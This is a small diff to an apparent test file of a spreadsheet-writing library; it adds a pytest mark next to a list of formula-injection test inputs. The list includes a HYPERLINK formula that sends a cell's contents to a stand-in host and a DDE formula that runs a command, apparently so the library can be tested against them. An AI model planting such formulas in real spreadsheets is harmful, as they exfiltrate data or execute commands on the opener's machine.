@@ -36,6 +36,8 @@ from sheettools.outgoing.workbook.write import (
 )
 from sheettools.words.text import is_padded, seen
 
+pytestmark = pytest.mark.anew
+
 INJECTIONS = (
     "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://192.0.2.1/?"&A1,"Bấm")', "=cmd|' /C calc'!A0",
     " =1+1",
